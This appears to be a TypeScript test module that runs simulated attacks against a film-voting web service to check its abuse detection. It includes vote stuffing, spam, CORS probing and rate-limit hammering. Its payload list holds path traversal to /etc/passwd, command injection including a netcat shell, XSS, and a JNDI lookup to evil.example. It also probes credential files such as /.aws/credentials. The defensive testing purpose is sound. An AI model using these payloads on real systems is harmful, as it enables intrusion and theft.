/** Attacks on content and on the service by generators of our own. */
import { addressOf, addressOf6, neighbour, neighbour6 } from './addresses.ts'
import { attack, keepOn, keyHolder } from './attackers.ts'
import { toolAddress } from './field.ts'
import type { Scenario } from './scenario.ts'
import { commonPaths } from './word-lists.ts'

const raised = { limits: 'raised' } as const

/** Every voter once, for the same film. */
const votes = (name: string, addressAt: (i: number) => string): Scenario =>
  attack(name, ['vote-stuffing'], (field) => keepOn(200, (i) => field.visitor(addressAt(i)).ask('/?like=7')))

/** A film a second, as fast as the route lets one: with the key that the first start leaves. */
const filmSpam = attack(
  'films: 200 of advertisements, by the starter key',
  ['add-film-spam'],
  async (field) => {
    const visitor = field.visitor(addressOf(21)).as(field.server.key())
    await keepOn(200, (i) => {
      return visitor.ask('/add_film', { method: 'POST', body: { name: `Buy cheap pills no ${i} https://pills.example/${i}` } })
    })
  },
  { field: raised },
)

const cors = attack('origins: which are let in', ['cors-probing'], async (field) => {
  const visitor = field.visitor(addressOf(23))
  const origins = [
    'null',
    'https://evil.example',
    'http://localhost.evil.example',
    'https://127.0.0.1.evil.example',
    'https://evil.example:8443',
  ]
  await keepOn(60, (i) => {
    const origin = origins[i] ?? `https://${'abcdefghijklmnopqrstuvwxyz'[i % 26]}${i}.evil.example`
    const fields = { Origin: origin, ...(i % 2 === 0 ? {} : { 'Access-Control-Request-Method': 'DELETE' }) }
    return visitor.ask('/v1/films/1', { method: i % 2 === 0 ? 'GET' : 'OPTIONS', fields })
  })
})

/** Goes on as if nothing were said. */
const hammering = attack(
  'limits: 600 requests on, 429 or not',
  ['limit-hammering'],
  async (field) => {
    const visitor = field.visitor(addressOf(24))
    await keepOn(600, () => visitor.ask('/'))
  },
  { within: { requests: 300, seconds: 10 } },
)

const honeyPath = attack('a path that only somebody looking for it asks for', ['honey-route'], async (field) => {
  const visitor = field.visitor(addressOf6(25))
  for (const path of ['/.env', '/.git/config', '/wp-login.php', '/.aws/credentials']) await visitor.ask(path)
})

/** A field at a time, each with what it might not expect. */
const spray = attack(
  'validation: every field with every wrong value',
  ['validation-spray'],
  async (field) => {
    const { key } = await keyHolder(field, 'editor', ['films:write'])
    const visitor = field.visitor(addressOf(26)).as(key)
    const wrong = [null, true, [], {}, -1, 1e308, 'x'.repeat(500), '', '\u0000', 0.5]
    const names = ['name', 'studio', 'year', 'genre', 'director', 'runtime_min', 'rating', '__proto__', 'constructor', 'admin']
    await keepOn(100, (i) => {
      const body = Object.fromEntries([
        ['name', 'A film'],
        [names[i % names.length] ?? '', wrong[Math.floor(i / names.length)]],
      ])
      return visitor.ask('/add_film', { method: 'POST', body })
    })
  },
  { field: raised },
)

const payloads: Readonly<Record<string, readonly string[]>> = {
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '%2e%2e/%2e%2e/windows/win.ini',
    '..\\..\\boot.ini',
  ],
  command: ['1;cat /etc/passwd', '1|id', '$(id)', '`id`', '1&&whoami', '1;ping -c 3 127.0.0.1', '| nc -e /bin/sh'],
  script: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg/onload=alert(1)>'],
  template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '${jndi:ldap://evil.example/a}'],
}

/** As a person with a browser sends them; the bucket leaks one in ten minutes. */
const byHand = (kind: string, rules: readonly string[]): Scenario =>
  attack(
    `${kind}: by hand, 40`,
    rules,
    async (field) => {
      const visitor = field.visitor(addressOf(30 + kind.length))
      const texts = payloads[kind] ?? []
      await keepOn(40, (i) => {
        const text = encodeURIComponent(texts[i % texts.length] ?? '').replaceAll('%25', '%')
        return visitor.ask(i % 2 === 0 ? `/?like=${text}` : `/v1/films/${text}`)
      })
    },
    { field: raised },
  )

const slowPaths = attack(
  'paths: a list of 140, under no limit',
  ['path-probing', 'sensitive-files'],
  async (field) => {
    const visitor = field.visitor(addressOf(40))
    await keepOn(commonPaths.length, (i) => {
      return visitor.ask(`/${commonPaths[i]}`)
    })
  },
  { field: raised },
)

/** Each of another network, each once: no client, and no network, does anything odd. */
const surge = attack(
  'votes: 500 addresses of as many networks, one film',
  ['vote-surge'],
  (field) =>
    keepOn(500, (i) => {
      return field.visitor(addressOf(3000 + i)).ask('/?like=7')
    }),
  { field: raised, within: { requests: 500, seconds: 60 } },
)

const doors = attack('paths: the doors of other programs', ['admin-probing', 'honey-route'], (field) => {
  const visitor = field.visitor(addressOf(41))
  const paths =
    '/administrator /phpmyadmin/ /wp-admin/ /manager/html /jenkins/login /grafana/login /adminer.php /solr/admin /console /cpanel'
  return keepOn(10, (i) => visitor.ask(paths.split(' ')[i] ?? '/'))
})

const parameters = attack('parameters: names until one is known', ['parameter-probing', 'validation-spray'], (field) => {
  const visitor = field.visitor(addressOf(42))
  return keepOn(60, (i) =>
    visitor.ask(`/v1/films/1?${['debug', 'admin', 'test', 'id', 'user', 'file', 'q', 'url', 'cmd', 'x'][i % 10]}${i > 9 ? i : ''}=1`),
  )
})

/** What a page can make the browsers of its visitors do; and whoever says so in order to be let off. */
const induced = attack(
  'paths: 60 by the page of another site, through a visitor',
  ['induced-probing'],
  (field) => {
    const visitor = field.visitor(addressOf(43))
    const fields = { 'Sec-Fetch-Site': 'cross-site', 'Sec-Fetch-Mode': 'no-cors' }
    const letters = 'abcdefghijklmnopqrstuvwxyz'
    return keepOn(60, (i) => {
      return visitor.ask(`/path-${letters[i % 26]}-${letters[Math.floor(i / 26)]}`, { fields })
    })
  },
  { field: raised },
)

/** In a network of its own: what is no HTTP has no header that says where it comes from. */
const garbage: Scenario = attack(
  'protocol: 40 connections with what is no HTTP',
  ['protocol-abuse'],
  async (field) => {
    const script =
      'for i in $(seq 40); do exec 3<>"/dev/tcp/$0/$1"; printf "\\026\\003\\001 %s\\r\\n\\r\\n" "$i" >&3; cat <&3 >/dev/null; exec 3>&-; done'
    await field.tool(['bash', '-c', script, toolAddress, String(field.server.port)], 20)
  },
  { field: { own: true } },
)

/** One request of each address, so that no limit of a client counts to two. */
const widePaths = attack(
  'paths: a list of 140, each from another address of a /24',
  ['path-probing', 'sensitive-files', 'honey-route'],
  (field) => keepOn(commonPaths.length, (i) => field.visitor(neighbour(i)).ask(`/${commonPaths[i]}`)),
)

export const intruders: readonly Scenario[] = [
  surge,
  doors,
  parameters,
  induced,
  garbage,
  votes('votes: 200 addresses of a /24, one film', neighbour),
  votes('votes: 200 /64s of a /48, one film', neighbour6),
  filmSpam,
  cors,
  hammering,
  honeyPath,
  spray,
  byHand('traversal', ['traversal-probing']),
  byHand('command', ['command-probing']),
  byHand('script', ['command-probing']),
  byHand('template', ['command-probing']),
  slowPaths,
  widePaths,
]
